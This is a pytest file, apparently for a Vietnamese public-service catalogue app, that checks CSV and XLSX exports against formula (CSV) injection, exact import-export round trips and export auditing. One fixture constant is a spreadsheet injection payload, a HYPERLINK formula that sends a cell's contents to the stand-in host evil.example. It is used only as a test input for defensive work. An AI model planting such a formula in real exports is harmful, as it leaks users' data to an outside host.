"""Catalogue exports: formula cells are neutralised (CSV injection), XLSX writes them as
text, the round trip stays exact, and every export is audited."""

import csv
import io

import pytest
from openpyxl import load_workbook

from motcua.catalog import exchange
from motcua.catalog.tests.factories import make_department, make_procedure
from motcua.core.models import AuditEvent
from motcua.org.models import User

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'


@pytest.fixture
def catalogue():
    dept = make_department()
    make_procedure(name=FORMULA, agency=dept.code)
    make_procedure(
        name="Cấp giấy phép", steps="- Bước 1: nộp hồ sơ\n- Bước 2: nhận kết quả", agency=dept.code
    )
    make_procedure(name="'=đã có dấu nháy", conditions="@SUM(1+1)", agency=dept.code)
    make_procedure(name="Thủ tục thường", conditions="+84 là mã nước", agency=dept.code)


def csv_rows(content: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def test_csv_cells_that_start_like_formulas_get_an_apostrophe(catalogue):
    rows = {r["code"]: r for r in csv_rows(exchange.export("csv"))}
    names = sorted(r["name"] for r in rows.values())
    assert names == sorted(["'" + FORMULA, "Cấp giấy phép", "''=đã có dấu nháy", "Thủ tục thường"])
    by_name = {r["name"]: r for r in rows.values()}
    assert by_name["Cấp giấy phép"]["steps"].startswith("'- Bước 1")
    assert by_name["''=đã có dấu nháy"]["conditions"] == "'@SUM(1+1)"
    assert by_name["Thủ tục thường"]["conditions"] == "'+84 là mã nước"
    dangerous = ("=", "+", "-", "@", "\t", "\r")
    assert not [v for r in rows.values() for v in r.values() if v.startswith(dangerous)]


def test_xlsx_writes_formula_like_text_as_text(catalogue):
    sheet = load_workbook(io.BytesIO(exchange.export("xlsx"))).active
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    formula = next(c for c in cells if c.value == FORMULA)
    assert formula.data_type == "s"
    assert not [c for c in cells if c.data_type == "f"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_round_trip_gives_back_the_text_and_the_bytes(catalogue, fmt):
    first = exchange.export(fmt)
    result = exchange.import_catalogue(first, fmt)
    assert (result.created, result.amended, result.unchanged) == (0, 0, 4)
    assert exchange.export(fmt) == first


@pytest.mark.parametrize(
    "value", ["=1+1", "'=1+1", "''@x", "-", "plain", "", "'quoted", "\tTab", "\r\n"]
)
def test_neutralise_and_restore_are_inverse(value):
    assert exchange.restore(exchange.neutralise(value)) == value


def test_every_export_is_audited_with_who_and_what(catalogue):
    officer = User.objects.create_user("xuat.du.lieu")
    exchange.export("csv", actor=officer)
    exchange.export("json")
    rows = AuditEvent.objects.filter(action="export.catalogue").order_by("id")
    assert [(r.actor, r.object_type, r.data) for r in rows] == [
        (officer, "catalog.procedure", {"format": "csv", "procedures": 4}),
        (None, "catalog.procedure", {"format": "json", "procedures": 4}),
    ]
